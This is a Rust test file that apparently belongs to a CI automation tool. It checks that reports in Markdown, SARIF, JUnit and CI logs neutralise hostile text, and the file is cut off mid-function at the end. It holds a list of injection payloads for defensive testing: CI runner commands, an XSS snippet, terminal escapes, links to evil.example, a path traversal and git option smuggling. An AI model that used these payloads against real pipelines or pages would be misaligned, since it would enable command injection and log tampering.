//! What a run leaves in CI: accounts of real runs and hostile ones, rendered to every format, and read back by parsers
//! that are not ours.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test that cannot be set up fails")]

mod common;

use codeforge::model::account::{Account, Ending, Spend, StepAccount, StepStatus};
use codeforge::model::coverage::Shown;
use codeforge::model::delivery::{ChangeKind, ChangeSet, Delivered, FileChange};
use codeforge::model::finding::{Finding, Level, Standing};
use codeforge::model::journal::{GateResult, Row, Verdict};
use codeforge::model::plan::DeliverKind;
use codeforge::model::progress::Progress;
use codeforge::model::usage::NanoUsd;
use codeforge::plan::scope::{ROOM, scope};
use codeforge::report::ci::log::{Log, Reader};
use codeforge::report::ci::{self, Facts, Tree, markdown as md};
use common::{ModelServer, Reply, Rule, TestRepo, ok, spoken};
use markdown::mdast::Node;
use proptest::prelude::*;
use serde_json::{Value, json};
use std::collections::BTreeMap;

// ---- Markdown, read by a parser of GitHub's dialect

/// What a text holds beside plain text.
#[derive(Debug, Default, PartialEq)]
struct Seen {
    html: Vec<String>,
    links: Vec<String>,
    images: usize,
    headings: Vec<String>,
    fences: usize,
    tables: usize,
    text: String,
}

fn see(text: &str) -> Seen {
    fn walk(node: &Node, seen: &mut Seen) {
        match node {
            Node::Html(html) => seen.html.push(html.value.trim().to_owned()),
            Node::Link(link) => seen.links.push(link.url.clone()),
            Node::Image(_) | Node::ImageReference(_) => seen.images += 1,
            Node::LinkReference(it) => seen.links.push(it.identifier.clone()),
            Node::Definition(it) => seen.links.push(it.url.clone()),
            Node::FootnoteDefinition(it) => seen.links.push(it.identifier.clone()),
            Node::Heading(heading) => seen.headings.push(heading.children.iter().map(ToString::to_string).collect()),
            Node::Code(_) => seen.fences += 1,
            Node::Table(table) => {
                seen.tables += 1;
                let wide = table.align.len();
                for row in &table.children {
                    assert_eq!(row.children().map_or(0, Vec::len), wide, "a row is broken: {row:?}");
                }
            }
            Node::Text(text) => seen.text.push_str(&text.value),
            _ => {}
        }
        for child in node.children().into_iter().flatten() {
            walk(child, seen);
        }
    }
    let mut seen = Seen::default();
    walk(&markdown::to_mdast(text, &markdown::ParseOptions::gfm()).unwrap(), &mut seen);
    seen
}

/// Texts that try to be more than text.
const HOSTILE: [&str; 34] = [
    "plain",
    "::add-mask::x",
    "  ::set-output name=a::b",
    "x\r\n::error file=a::b",
    "\u{a0}::stop-commands::t",
    ":\u{200b}:add-path::/evil",
    "##[set-env name=A]b",
    "a ##[error]b ##vso[task.x]y #\u{200b}#[group]z",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]8;;http://evil\u{7}link\u{1b}]8;;\u{7}",
    "\u{9b}2J\u{9d}0;t\u{9c} c1",
    "section_start:1:a\r\u{1b}[0Khead",
    "| a | b |\n|---|---|\n| c | d |",
    "a \\| b \\\\| c `x|y` `x\\|y`",
    "``` \n# not a heading\n```",
    "`one `two` three",
    "`` ` `` ```",
    "<script>alert(1)</script><img src=x onerror=y>",
    "<!-- hidden --> --> <!-- codeforge:memory {} -->",
    "</details><h1>big</h1>",
    "[link](http://evil.example) ![img](http://evil.example/a.png)",
    "[ref]: http://evil.example\n[ref] and [^1]\n[^1]: note",
    "http://evil.example https://evil.example www.evil.example mail@evil.example",
    "@octocat @org/team fixes #1 GH-2 o/r#3 !4 %5 ~label &6",
    "# heading\n===\n---\n- item\n1. item\n+ x\n> quote",
    "/close\n/assign @me\n/merge",
    "$$x^2$$ $`y`$ {: .class} [[_TOC_]] {+ins+} [-del-]",
    "*bold* _it_ ~~gone~~ **x** __y__",
    "&lt;b&gt; &#60;script&#62; &amp;",
    "\u{202e}evil\u{2066} \u{200b}\u{feff} tags\u{e0041}",
    "a\0b\u{8}\u{7f}c",
    "\\ \\` \\<b> trailing \\",
    "-->",
    "\u{fffd}\u{fffe}\u{ffff} ]]> <![CDATA[",
    "",
];

fn step(name: &str, text: &str, status: StepStatus) -> StepAccount {
    let ruling =
        json!({ "decision": "deny", "by": { "policy": text, "rule": 3, "file": text, "line": 9 }, "reason": text });
    serde_json::from_value(json!({
        "id": name, "mode": text, "status": status, "attempt": 2, "attempts": 3, "iteration": 0, "duration_ms": 1200,
        "spend": Spend { calls: 2, cost: NanoUsd::from_usd(0.031), ..Spend::default() }, "files": [], "summary": text,
        "error": (status == StepStatus::Failed).then_some(text), "gates": [], "denials": [[text, ruling]], "needs": [],
    }))
    .unwrap_or_else(|error| panic!("{error}"))
}

fn gate(name: &str, verdict: Verdict, output: &str) -> GateResult {
    GateResult {
        gate: name.into(),
        gate_hash: "h".into(),
        tree: "t".into(),
        verdict,
        detail: "exit code 1".into(),
        output: output.into(),
        duration_ms: 900,
    }
}

fn file(path: &str, added: u64) -> FileChange {
    FileChange { path: path.into(), from: None, kind: ChangeKind::Modified, added, removed: 1, mode: 0o100_644 }
}

/// An account in which every text is `text`.
fn account(text: &str, steps: usize, files: usize) -> Account {
    let mut all: Vec<StepAccount> = (0..steps)
        .map(|at| step(&format!("s{at}"), text, if at == 0 { StepStatus::Failed } else { StepStatus::Succeeded }))
        .collect();
    if let Some(first) = all.first_mut() {
        first.gates.push((1, gate(text, Verdict::Fail, text), text.into()));
        first.gates.push((2, gate(text, Verdict::Error, &format!("{text}\n{text}")), text.into()));
    }
    let files: Vec<FileChange> = (0..files).map(|at| file(&format!("{text}/{at}"), 3)).collect();
    Account {
        run: "7f3k9m2q".into(),
        workflow: text.into(),
        repo: text.into(),
        base: Some("4c1d2e9aa".into()),
        policy: text.into(),
        driver: text.into(),
        notes: vec![text.into()],
        started_ms: 0,
        ended_ms: Some(1000),
        ending: Some(Ending::Failed),
        reason: text.into(),
        steps: all,
        spend: Spend { calls: 2, cost: NanoUsd::from_usd(0.031), ..Spend::default() },
        budget_usd: Some(5.0),
        by_model: vec![(text.into(), Spend::default()), ("b".into(), Spend::default())],
        final_gates: vec![gate(text, Verdict::Fail, text)],
        delivered: Some(Delivered {
            kind: DeliverKind::Patch,
            patch: None,
            commit: None,
            branch: None,
            changes: ChangeSet { files, diff: String::new() },
            changed: true,
            published: None,
        }),
    }
}

fn finding(text: &str, at: u64, level: Level) -> Finding {
    Finding {
        fingerprint: format!("{at:016x}"),
        level,
        file: if text.is_empty() { "f".into() } else { text.into() },
        line: Some(at + 1),
        end_line: None,
        rule: Some(text.into()),
        what: text.into(),
        suggestion: Some(text.into()),
        step: "review".into(),
        standing: Standing::New,
    }
}

fn facts(text: &str) -> Facts {
    let changes = ChangeSet { files: vec![file(text, 2), file("Cargo.lock", 90)], diff: String::new() };
    Facts {
        asked: Some(text.into()),
        asked_by: Some(text.into()),
        done: Some(text.into()),
        coverage: scope(&changes, ROOM).coverage,
        head: Some(text.into()),
        since: Some("4c1d2e9aa".into()),
        run_url: Some(format!("https://ci.example/{text}")),
        change_spent: Some(NanoUsd::from_usd(0.31)),
        change_budget_usd: Some(2.0),
        phrase: "/codeforge".into(),
        commands: vec![text.into(), "fix".into()],
        whole: None,
    }
}

/// All Markdown of an account.
fn pages(account: &Account, findings: &[Finding], facts: &Facts, cap: usize) -> [(&'static str, String); 3] {
    [
        ("summary", ci::summary(account, findings, facts, cap)),
        ("body", ci::change_body(account, findings, facts, cap)),
        ("comment", ci::sticky_comment(account, findings, facts, cap)),
    ]
}

#[test]
fn nothing_in_a_text_of_others_acts_in_markdown() {
    let calm = account("calm", 2, 2);
    let calm: Vec<Seen> = pages(&calm, &[finding("calm", 1, Level::High)], &facts("calm"), usize::MAX)
        .iter()
        .map(|it| see(&it.1))
        .collect();
    for text in HOSTILE {
        let account = account(text, 2, 2);
        for ((name, page), calm) in
            pages(&account, &[finding(text, 1, Level::High)], &facts(text), usize::MAX).iter().zip(&calm)
        {
            let seen = see(page);
            let html: Vec<&String> = seen.html.iter().filter(|html| !ours(html)).collect();
            assert!(html.is_empty(), "{name} of {text:?}: {html:?}\n{page}");
            let links: Vec<&String> = seen.links.iter().filter(|link| *link != "https://ci.example/calm").collect();
            assert!(
                links.iter().all(|link| link.starts_with("https://ci.example/")),
                "{name} of {text:?}: {links:?}\n{page}"
            );
            assert_eq!(seen.images, 0, "{name} of {text:?}\n{page}");
            assert!(seen.tables <= calm.tables, "{name} of {text:?}\n{page}");
            assert!(seen.headings.len() <= calm.headings.len(), "{name} of {text:?}: {:?}\n{page}", seen.headings);
            // What forges look for in finished text: mentions, references, quick actions.
            for sign in ["@octocat", "@org", "@me", "#1", "r#3", "!4", "%5"] {
                assert!(!seen.text.contains(sign), "{name} of {text:?} holds {sign}\n{page}");
            }
            for line in page.lines() {
                let start = line.trim_start();
                assert!(!start.starts_with("::") && !line.contains("##["), "{name} of {text:?}: {line:?}");
                // (A summary is posted nowhere; there it can only be a line of a block of code.)
                assert!(!start.starts_with('/') || *name == "summary", "{name} of {text:?}: {line:?}");
            }
            assert!(page.chars().all(|c| c == '\n' || !c.is_control()), "{name} of {text:?}");
        }
    }
}

/// HTML that we write ourselves.
fn ours(html: &str) -> bool {
    html == "</details>"
        || html.starts_with("<details><summary>What gate ") && html.matches('<').count() == 3
        || html.starts_with("<!-- codeforge:memory ") && html.ends_with(" -->") && html.matches("-->").count() == 1
}

#[test]
fn what_is_harmless_reads_as_it_was_written() {
    for (text, expected) in [
        ("`unwrap` on user input", "`unwrap` on user input"),
        ("std::fs::read, a.b(c) and x-y", "std::fs::read, a.b(c) and x-y"),
        ("Größe 5 % zu groß", "Größe 5 &#37; zu groß"),
        ("1. first", "1&#46; first"),
        ("an `odd mark", "an &#96;odd mark"),
    ] {
        assert_eq!(md::prose(text, 200), expected);
    }
    assert_eq!(md::code("a`b", 10), "`a'b`");
}

// ---- machines

fn sarif_schema() -> jsonschema::Validator {
    let text =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/bodies/sarif-2.1.0.schema.json")).unwrap();
    // One of its patterns is no regular expression; nothing of ours has that property.
    let text = text.replace("-[a-zA-Z]{2}]?$", "-[a-zA-Z]{2}$");
    jsonschema::validator_for(&serde_json::from_str(&text).unwrap()).unwrap()
}

#[test]
fn machines_read_every_report_whatever_it_holds() {
    let schema = sarif_schema();
    for text in HOSTILE {
        let account = account(text, 2, 2);
        let mut found = vec![finding(text, 1, Level::High), finding(text, 2, Level::Low)];
        found.push(Finding { standing: Standing::Resolved, ..finding(text, 3, Level::High) });
        found.push(Finding { rule: None, line: None, ..finding(text, 4, Level::Medium) });

        let sarif: Value = serde_json::from_str(&ci::sarif(&account, &found, &facts(text), ci::REPORT_CAP)).unwrap();
        let errors: Vec<String> = schema.iter_errors(&sarif).map(|error| error.to_string()).collect();
        assert!(errors.is_empty(), "{text:?}: {errors:#?}");
        assert_eq!(sarif["runs"][0]["results"].as_array().unwrap().len(), 3, "what is resolved is not in it");
        let uri = sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].clone();
        assert!(!uri.as_str().unwrap().contains([':', ' ', '\\', '<', '\n']), "{uri}");

        let quality: Value = serde_json::from_str(&ci::code_quality(&found, ci::REPORT_CAP)).unwrap();
        assert_eq!(quality.as_array().unwrap().len(), 3);
        for entry in quality.as_array().unwrap() {
            assert!(["info", "minor", "major", "critical", "blocker"].contains(&entry["severity"].as_str().unwrap()));
            assert!(entry["location"]["lines"]["begin"].as_u64().unwrap() >= 1);
            for key in ["description", "check_name", "fingerprint"] {
                assert!(entry[key].is_string(), "{entry:#}");
            }
        }

        let junit = ci::junit(&account, ci::REPORT_CAP);
        let xml = roxmltree::Document::parse(&junit).unwrap_or_else(|error| panic!("{text:?}: {error}\n{junit}"));
        let suites: Vec<_> = xml.descendants().filter(|node| node.has_tag_name("testsuite")).collect();
        assert_eq!(suites.len(), 2);
        for suite in suites {
            let cases = suite.children().filter(|node| node.has_tag_name("testcase")).count();
            assert_eq!(suite.attribute("tests").unwrap(), cases.to_string());
            for (attribute, tag) in [("failures", "failure"), ("errors", "error"), ("skipped", "skipped")] {
                let count = suite.descendants().filter(|node| node.has_tag_name(tag)).count();
                assert_eq!(suite.attribute(attribute).unwrap(), count.to_string(), "{tag}\n{junit}");
            }
        }

        for annotation in ci::annotations(&found) {
            let line = annotation.github();
            let mut runner = Runner::default();
            runner.read(&line);
            let [(command, properties, data)] = runner.acted.as_slice() else { panic!("{text:?}: {line:?}") };
            assert!(["error", "warning", "notice"].contains(&command.as_str()));
            let keys: Vec<&str> = properties.iter().map(|(key, _)| key.as_str()).collect();
            assert!(keys.iter().all(|key| ["file", "line", "title"].contains(key)), "{text:?}: {keys:?}");
            // What the runner shows is what it unescaped: not a command in its turn.
            data.lines().for_each(|line| Runner::default().must_not_act(line));
            Runner::default().must_not_act(&annotation.plain());
        }
    }
}

/// A command, its properties, its value.
type Acted = (String, Vec<(String, String)>, String);

/// GitHub's runner, as far as it reads lines: which commands it would obey.
#[derive(Default)]
struct Runner {
    acted: Vec<Acted>,
    deaf: Option<String>,
}

impl Runner {
    fn read(&mut self, line: &str) {
        let trimmed = line.trim_start();
        let command = trimmed.strip_prefix("::").and_then(|rest| rest.split_once("::")).map(|(head, data)| {
            let (name, properties) = head.split_once(' ').unwrap_or((head, ""));
            (name.to_owned(), properties.to_owned(), data.to_owned())
        });
        let old = line.find("##[").and_then(|at| line[at + 3..].split_once(']')).map(|(head, data)| {
            let (name, properties) = head.split_once(' ').unwrap_or((head, ""));
            (name.to_owned(), properties.to_owned(), data.to_owned())
        });
        let Some((name, properties, data)) = command.or(old) else { return };
        if let Some(token) = &self.deaf {
            if *token == name {
                self.deaf = None;
            }
            return;
        }
        if name == "stop-commands" {
            self.deaf = Some(data);
            return;
        }
        let unescape = |text: &str| {
            text.replace("%0D", "\r").replace("%0A", "\n").replace("%3A", ":").replace("%2C", ",").replace("%25", "%")
        };
        let properties = properties.split(',').filter_map(|pair| pair.split_once('='));
        let properties = properties.map(|(key, value)| (key.to_owned(), unescape(value))).collect();
        self.acted.push((name, properties, unescape(&data)));
    }

    fn must_not_act(&mut self, line: &str) {
        self.read(line);
        assert!(self.acted.is_empty() && self.deaf.is_none(), "{line:?} acts: {:?}", self.acted);
    }
}

#[test]
fn annotations_are_escaped_as_the_runner_unescapes_and_end_where_it_stops_showing() {
    let one = Finding {
        file: "src/a,b:c.rs".into(),
        what: "100 % wrong:\nsee `x`, y".into(),
        rule: Some("CWE-89".into()),
        suggestion: None,
        ..finding("x", 6, Level::High)
    };
    assert_eq!(
        ci::annotations(&[one])[0].github(),
        "::error file=src/a%2Cb%3Ac.rs,line=7,title=CodeForge CWE-89::100 %25 wrong:%0Asee `x`, y"
    );
    let many: Vec<Finding> = (0..30).map(|at| finding("x", at, Level::Medium)).collect();
    let all = ci::annotations(&many);
    assert_eq!(all.len(), 10);
    assert!(all[9].message.starts_with("21 more"), "{:?}", all[9]);
}

// ---- caps

proptest! {
    #![proptest_config(ProptestConfig { cases: 32, max_shrink_iters: 50, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_is_above_its_cap_and_each_is_whole(
        cap in prop_oneof![0usize..3000, 3000usize..30_000],
        text in prop_oneof![prop::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned), ".{0,300}"],
        steps in 1usize..12,
        files in 0usize..60,
        found in 0usize..40,
    ) {
        let account = account(&text, steps, files);
        let levels = [Level::Low, Level::Medium, Level::High];
        let found: Vec<Finding> = (0..found).map(|at| finding(&text, at as u64, levels[at % 3])).collect();
        let whole = pages(&account, &found, &facts(&text), usize::MAX);
        for ((name, page), (_, whole)) in pages(&account, &found, &facts(&text), cap).into_iter().zip(whole) {
            prop_assert!(page.len() <= cap, "{name}: {} > {cap}", page.len());
            let seen = see(&page);
            prop_assert!(seen.html.iter().all(|html| ours(html)), "{name}: {:?}", seen.html);
            let open = seen.html.iter().filter(|html| html.starts_with("<details>")).count();
            prop_assert_eq!(open, seen.html.iter().filter(|html| *html == "</details>").count());
            prop_assert!(whole == page || page.contains("Left out") || cap < 40, "{name} does not say what is missing");
        }
        let room = cap.max(4096);
        for text in [ci::sarif(&account, &found, &facts(&text), room), ci::code_quality(&found, room)] {
            prop_assert!(text.len() <= room);
            prop_assert!(serde_json::from_str::<Value>(&text).is_ok());
        }
        let junit = ci::junit(&account, room);
        prop_assert!(junit.len() <= room && roxmltree::Document::parse(&junit).is_ok());
    }
}

#[test]
fn the_least_useful_goes_first_and_it_is_said() {
    let account = account("calm words", 20, 300);
    let found: Vec<Finding> =
        (0..60).map(|at| finding("calm words", at, if at < 5 { Level::High } else { Level::Low })).collect();
    let whole = ci::summary(&account, &found, &facts("calm"), usize::MAX);
    let mut order: Vec<String> = Vec::new();
    for cap in (2000..whole.len()).rev().step_by(250) {
        let page = ci::summary(&account, &found, &facts("calm"), cap);
        assert!(page.len() <= cap);
        let note = page.lines().find(|line| line.starts_with("*Left out")).unwrap_or_else(|| panic!("{cap}\n{page}"));
        for name in ["changed files", "steps", "findings", "the picture"] {
            if note.contains(&format!("× {name}")) && !order.contains(&name.to_owned()) {
                order.push(name.to_owned());
            }
        }
        // The worst is the last to go.
        assert!(page.contains("🔴") || !page.contains("🔵") && !page.contains("mermaid"), "{cap}\n{page}");
    }
    assert_eq!(order, ["changed files", "steps", "findings", "the picture"]);
}

// ---- fingerprints

const CODE: &str = "fn parse(text: &str) -> Vec<&str> {\n    let mut all = Vec::new();\n    all.pop().unwrap();\n    \
                    all\n}\n\nfn other() {\n    all.pop().unwrap();\n    all\n}\n";

fn marks(found: &[(&str, u64, &str)], files: &[(&str, &str)], renamed: &[(&str, &str)]) -> Vec<Finding> {
    let list: Vec<Value> = found
        .iter()
        .map(|(file, line, what)| json!({ "severity": "high", "file": file, "line": line, "what": what }))
        .collect();
    let output = json!({ "approved": false, "summary": "s", "findings": list });
    let step = "review".into();
    let files: BTreeMap<String, String> = files.iter().map(|(path, text)| ((*path).into(), (*text).into())).collect();
    let renamed: BTreeMap<String, String> =
        renamed.iter().map(|(new, old)| ((*new).to_owned(), (*old).to_owned())).collect();
    let text = |path: &str| files.get(path).cloned();
    ci::findings([(&step, &output)], &Tree { text: &text, renamed: &renamed })
}

#[test]
fn a_fingerprint_holds_across_pushes() {
    let first = marks(&[("src/a.rs", 3, "unwrap panics")], &[("src/a.rs", CODE)], &[])[0].fingerprint.clone();
    assert_eq!(first.len(), 16);
    let after = |file: &str, line: u64, what: &str, text: &str, renamed: &[(&str, &str)]| {
        marks(&[(file, line, what)], &[(file, text)], renamed)[0].fingerprint.clone()
    };
    // Other words, lines above, other spacing, another name for the file: the same thing.
    assert_eq!(first, after("src/a.rs", 3, "It crashes on empty input", CODE, &[]));
    for file in ["./src/a.rs", "/workspace/src/a.rs", "src//a.rs"] {
        assert_eq!(first, marks(&[(file, 3, "x")], &[("src/a.rs", CODE)], &[])[0].fingerprint, "{file}");
    }
    assert_eq!(first, after("src/a.rs", 5, "x", &format!("// one\n// two\n{CODE}"), &[]));
    assert_eq!(first, after("src/a.rs", 3, "x", &CODE.replace("    ", "\t"), &[]));
    assert_eq!(first, after("src/b.rs", 3, "x", CODE, &[("src/b.rs", "src/a.rs")]));
    // Another line, the same text elsewhere in the file, another file, the line itself changed: another thing.
    for other in [
        after("src/a.rs", 4, "x", CODE, &[]),
        after("src/a.rs", 8, "x", CODE, &[]),
        after("src/b.rs", 3, "x", CODE, &[]),
        after("src/a.rs", 3, "x", &CODE.replacen("unwrap()", "expect(\"a\")", 1), &[]),
    ] {
        assert_ne!(first, other);
    }
    // Two findings at one place are two.
    let two = marks(&[("src/a.rs", 3, "x"), ("src/a.rs", 3, "y")], &[("src/a.rs", CODE)], &[]);
    assert_ne!(two[0].fingerprint, two[1].fingerprint);
    // What no file has.
    let odd =
        marks(&[("src/a.rs", 900, "x"), ("no.rs", 2, "y"), ("../../etc/passwd", 1, "z")], &[("src/a.rs", CODE)], &[]);
    assert_eq!(
        odd.iter().map(|it| (it.file.as_str(), it.line)).collect::<Vec<_>>(),
        [("no.rs", Some(2)), ("src/a.rs", None)]
    );
}

#[test]
fn what_was_there_before_is_told_apart_and_what_was_not_looked_at_still_stands() {
    let first = marks(
        &[("a.rs", 3, "one"), ("b.rs", 1, "two"), ("c.rs", 2, "three")],
        &[("a.rs", CODE), ("b.rs", CODE), ("c.rs", CODE)],
        &[],
    );
    let first = ci::standing(first, &[], &|_| true);
    assert!(first.iter().all(|it| it.standing == Standing::New));
    // The next push touched a and b: a's is found again, b's is not, d is new; c was not looked at.
    let grown = format!("// new\n{CODE}");
    let second = marks(
        &[("a.rs", 4, "in other words"), ("d.rs", 1, "four")],
        &[("a.rs", &grown), ("b.rs", ""), ("d.rs", CODE)],
        &[],
    );
    let second = ci::standing(second, &first, &|path| path != "c.rs");
    let told: BTreeMap<&str, Standing> = second.iter().map(|it| (it.file.as_str(), it.standing)).collect();
    assert_eq!(
        told,
        [("a.rs", Standing::Still), ("b.rs", Standing::Resolved), ("c.rs", Standing::Still), ("d.rs", Standing::New)]
            .into()
    );
    // What is resolved is told once.
    let third = ci::standing(Vec::new(), &second, &|_| false);
    assert!(third.iter().all(|it| it.file != "b.rs" && it.standing == Standing::Still) && third.len() == 3);
}

#[test]
fn the_comment_remembers_what_the_next_review_needs_and_nothing_hides_in_it() {
    for text in HOSTILE {
        let mut account = account(text, 1, 0);
        account.ending = Some(Ending::Done);
        let found =
            [finding(text, 1, Level::High), Finding { standing: Standing::Resolved, ..finding(text, 2, Level::Low) }];
        let facts = Facts { head: Some("9e01aa4b".into()), ..facts(text) };
        let page = ci::sticky_comment(&account, &found, &facts, ci::BODY_CAP);
        let memory = ci::memory(&page).unwrap_or_else(|| panic!("{text:?}\n{page}"));
        assert_eq!(memory.head.as_deref(), Some("9e01aa4b"));
        assert_eq!(memory.spent, NanoUsd::from_usd(0.31));
        assert_eq!(memory.findings.len(), 1);
        assert_eq!(memory.findings[0].file, found[0].file);
        assert_eq!(page.matches("<!--").count(), 1, "{text:?}\n{page}");
        // A review that did not come to its end has reviewed nothing.
        account.ending = Some(Ending::Limit);
        let page = ci::sticky_comment(&account, &found, &facts, ci::BODY_CAP);
        assert_eq!(ci::memory(&page).unwrap().head.as_deref(), Some("4c1d2e9aa"));
    }
    for odd in [
        "",
        "<!-- codeforge:memory {",
        "<!-- codeforge:memory {\"head\":\"--upload-pack=x\"} -->",
        "<!-- codeforge:memory [] -->",
    ] {
        assert_eq!(ci::memory(odd), None, "{odd}");
    }
}

// ---- what a reviewer is shown

#[test]
fn a_reviewer_is_shown_small_files_whole_large_ones_clipped_and_generated_ones_by_name() {
    let repo = TestRepo::with(&[("src/old.rs", CODE), ("keep.txt", "1\n")]);
    let first = repo.head();
    repo.git(&["mv", "src/old.rs", "src/new.rs"]);
    repo.write("src/new.rs", CODE.replace("unwrap", "expect"));
    repo.write("src/small.rs", "fn small() {}\n");
    let large: String = (0..3000).map(|at| format!("fn f{at}() {{}}\n")).collect();
    repo.write("src/large.rs", &large).write("Cargo.lock", "x\n").write("web/app.min.js", "x\n");
    repo.write("gen.rs", "// @generated by x\nfn g() {}\n").write("logo.bin", [0u8, 159, 146, 150, 0, 1]);
    repo.write("with space ü.rs", "fn s() {}\n");
    let second = repo.commit("second");
    let changes = changes(&repo, &first, &second);
    let seen = scope(&changes, 20_000);
    let table: BTreeMap<&str, (Shown, &str)> =
        seen.coverage.iter().map(|it| (it.path.as_str(), (it.shown, it.why.as_str()))).collect();
    assert_eq!(table["src/small.rs"], (Shown::Reviewed, ""));
    assert_eq!(table["src/new.rs"], (Shown::Reviewed, ""));
    assert_eq!(table["with space ü.rs"].0, Shown::Reviewed, "{table:?}");
    assert_eq!(table["src/large.rs"].0, Shown::Clipped, "{table:?}");
    assert_eq!(table["Cargo.lock"], (Shown::Skipped, "lock file"));
    assert_eq!(table["web/app.min.js"], (Shown::Skipped, "generated"));
    assert_eq!(table["gen.rs"], (Shown::Skipped, "generated"));
    assert_eq!(table["logo.bin"], (Shown::Skipped, "binary"));
    assert!(
        seen.diff.len() < 21_000
            && seen.diff.contains("+fn small() {}")
            && seen.diff.contains("left out: read the file")
    );
    assert!(!seen.diff.contains("app.min.js"));
    assert!(seen.looked_at("src/old.rs") && !seen.looked_at("src/large.rs") && !seen.looked_at("Cargo.lock"));
    assert_eq!(codeforge::plan::scope::renamed(&changes)["src/new.rs"], "src/old.rs");
    // As an event holds it.
    let mut event = json!({ "kind": "pull_request", "change": { "number": 4 } });
    seen.lay_on(&mut event, Some(&first), &[finding("earlier words", 1, Level::High)]);
    assert_eq!(event["change"]["number"], 4);
    assert!(
        event["change"]["coverage"].as_str().unwrap().contains("skipped   +1 -0  Cargo.lock: lock file"),
        "{event:#}"
    );
    assert!(event["change"]["earlier"].as_str().unwrap().contains("(high): earlier words"));
}

/// The difference of two commits as the repository's adapter gives it.
fn changes(repo: &TestRepo, from: &str, to: &str) -> ChangeSet {
    let tree = |commit: &str| repo.git(&["rev-parse", &format!("{commit}^{{tree}}")]).into();
    let opened = codeforge::adapter::git::open(repo.path()).unwrap();
    opened.diff(&tree(from), &tree(to), 0).unwrap()
}

// ---- the log

/// GitLab's runner: which sections it would open and close.
fn sections(lines: &[String]) -> Vec<String> {
    let mut open: Vec<String> = Vec::new();
    let mut seen = Vec::new();
    for line in lines {
        for part in line.split("\x1b[0K").filter(|part| part.ends_with('\r')) {
            let mut fields = part.trim_end().split(':');
            match (fields.next().unwrap(), fields.next().unwrap().parse::<i64>().is_ok(), fields.next().unwrap()) {
                ("section_start", true, name) => {
                    assert!(!seen.contains(&name.to_owned()), "a section is opened twice: {line:?}");
                    open.push(name.to_owned());
                    seen.push(name.to_owned());
                }
                ("section_end", true, name) => assert_eq!(open.pop().as_deref(), Some(name), "{line:?}"),
                other => panic!("{other:?} in {line:?}"),
            }
        }
    }
    assert!(open.is_empty(), "sections stay open: {open:?}");
    seen
}

/// What a run of the real binary did, as its watcher saw it.
fn observed(rows: &[Row]) -> Vec<Progress> {
    rows.iter().cloned().map(Progress::Recorded).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn tool_output_that_speaks_to_the_runner_is_in_no_line_of_the_log() {
    let hostile = "printf '::add-mask::x\\n##[set-env name=A]b\\n\\033[31m::error::red\\n\\377\\376 x\\n\
                   ::stop-commands::guess\\nsection_end:1:codeforge_1\\r\\033[0K\\n'; head -c 10000000 /dev/zero | tr '\\0' a; echo; exit 1";
    let repo = TestRepo::with(&[("a.txt", "a\n"), ("gate.sh", hostile)]);
    repo.write(
        ".codeforge/workflows/w.yml",
        "name: w\nsandbox: { driver: native }\ngates:\n  loud: { run: \"sh gate.sh\", on_fail: fail }\nsteps:\n  \
         left: { run: \"sh gate.sh || true\" }\n  right: { run: \"sh gate.sh || true\", needs: [left], gates: [loud] }\ndeliver: none\n",
    );
    repo.commit("workflow");
    let output = repo.codeforge(&["run", "w"]).output().unwrap();
    assert_eq!(output.status.code(), Some(1), "{}", spoken(&output));
    let rows = rows(&repo).await;
    let account = account_of(&repo);
    let output = Progress::Output { step: "left".into(), text: "::add-mask::y\n".into() };
    let said = Progress::ModelText { step: "left".into(), text: "::add-mask::z\n".into() };
    // As the engine says it: the end of a step before the end of the run.
    let ended = ["left", "right"].map(|step| Progress::StepEnded {
        step: step.into(),
        status: StepStatus::Failed,
        duration_ms: 1,
    });
    for reader in [Reader::Github, Reader::Gitlab, Reader::Plain] {
        let mut log = Log::new(reader, 2, "s3cr3t");
        let mut lines: Vec<String> = Vec::new();
        for progress in observed(&rows).iter().chain([&output, &said]).chain(&ended) {
            lines.extend(log.lines(progress, 1_764_000_000));
        }
        let before = lines.len();
        lines.extend(log.end(&account, Some("trajectory.jsonl"), 1_764_000_001));
        let last = &lines[before..];
        let text = lines.join("\n");
        assert!(lines.iter().all(|line| line.len() < 2000 && !line.contains('\n')), "{reader:?}\n{text}");
        assert!(text.contains("gate loud did not pass"), "{reader:?}\n{text}");
        for stranger in ["add-mask::y", "add-mask::z"] {
            assert!(!text.contains(stranger), "{reader:?}\n{text}");
        }
        let mut runner = Runner::default();
        lines.iter().for_each(|line| runner.read(line));
        let commands: Vec<&str> = runner.acted.iter().map(|(name, ..)| name.as_str()).collect();
        match reader {
            Reader::Github => {
                assert!(
                    commands.iter().all(|name| ["group", "endgroup", "error"].contains(name)),
                    "{commands:?}\n{text}"
                );
                let (opened, closed) =
                    ["group", "endgroup"].map(|name| commands.iter().filter(|it| **it == name).count()).into();
                assert!(opened == closed && opened >= 2, "{text}");
                assert!(runner.deaf.is_none(), "the runner listens at the end\n{text}");
                assert_eq!(commands.iter().filter(|name| **name == "error").count(), 1);
            }
            Reader::Gitlab => {
                assert!(sections(&lines).len() >= 2, "{text}");
                assert!(commands.is_empty(), "{text}");
            }
            Reader::Plain => assert!(commands.is_empty() && !text.contains('\x1b'), "{text}"),
        }
        let closing: Vec<&String> =
            last.iter().filter(|line| !line.contains("endgroup") && !line.contains("section_")).collect();
        assert!(closing.len() <= 10, "{closing:#?}");
        let closing: String = closing.into_iter().cloned().collect::<Vec<_>>().join("\n");
        for told in ["w failed", "gate loud", "Next:", "cost: nothing", "trajectory.jsonl"] {
            assert!(closing.contains(told), "{reader:?}: no {told:?}\n{closing}");
        }
    }
}

/// The only run's journal.
async fn rows(repo: &TestRepo) -> Vec<Row> {
    let opened = codeforge::adapter::git::open(repo.path()).unwrap();
    let clock = std::sync::Arc::new(codeforge::adapter::clock::SystemClock);
    let store = codeforge::adapter::sqlite::open(opened.state_dir(), clock).await.unwrap();
    let run = store.runs(10).await.unwrap().remove(0).0.id;
    store.rows(&run).await.unwrap()
}

/// The only run's account, as `runs show` gives it to machines.
fn account_of(repo: &TestRepo) -> Account {
    let list: Value = serde_json::from_str(&ok(&mut repo.codeforge(&["runs", "list", "--format", "json"]))).unwrap();
    let run = list[0]["run"]["id"].as_str().unwrap();
